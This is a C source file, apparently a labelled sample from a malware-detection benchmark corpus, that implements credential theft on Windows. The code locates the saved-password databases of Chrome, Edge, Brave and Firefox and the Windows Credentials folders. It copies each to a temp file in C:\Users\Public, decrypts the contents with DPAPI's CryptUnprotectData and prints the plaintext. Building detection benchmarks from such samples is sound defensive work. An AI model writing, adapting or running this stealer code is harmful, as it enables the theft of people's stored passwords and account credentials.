// maljan-corpus: copies the browsers' saved-password stores and decrypts them with DPAPI.
// behaviour: credential-access
// imports: kernel32.dll!CopyFileA kernel32.dll!ReadFile crypt32.dll!CryptUnprotectData kernel32.dll!ExpandEnvironmentStringsA
// link: -lcrypt32
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <wincrypt.h>
#include <stdio.h>

static const char *STORES[] = {
    "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data",
    "%LOCALAPPDATA%\\Microsoft\\Edge\\User Data\\Default\\Login Data",
    "%LOCALAPPDATA%\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Login Data",
    "%APPDATA%\\Mozilla\\Firefox\\Profiles\\default-release\\logins.json",
    "%APPDATA%\\Mozilla\\Firefox\\Profiles\\default-release\\key4.db",
    "%APPDATA%\\Microsoft\\Credentials",
    "%LOCALAPPDATA%\\Microsoft\\Credentials",
};

int main(void) {
    char src[MAX_PATH], tmp[MAX_PATH];
    static BYTE buf[1 << 16];
    for (unsigned i = 0; i < sizeof STORES / sizeof *STORES; i++) {
        ExpandEnvironmentStringsA(STORES[i], src, MAX_PATH);
        snprintf(tmp, sizeof tmp, "C:\\Users\\Public\\ld%u.tmp", i);
        if (!CopyFileA(src, tmp, FALSE)) continue;
        HANDLE f = CreateFileA(tmp, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
        DWORD got = 0;
        ReadFile(f, buf, sizeof buf, &got, NULL);
        CloseHandle(f);
        DATA_BLOB in = {got, buf}, out = {0, NULL};
        if (CryptUnprotectData(&in, NULL, NULL, NULL, NULL, 0, &out)) {
            fwrite(out.pbData, 1, out.cbData, stdout);
            LocalFree(out.pbData);
        }
    }
    return 0;
}
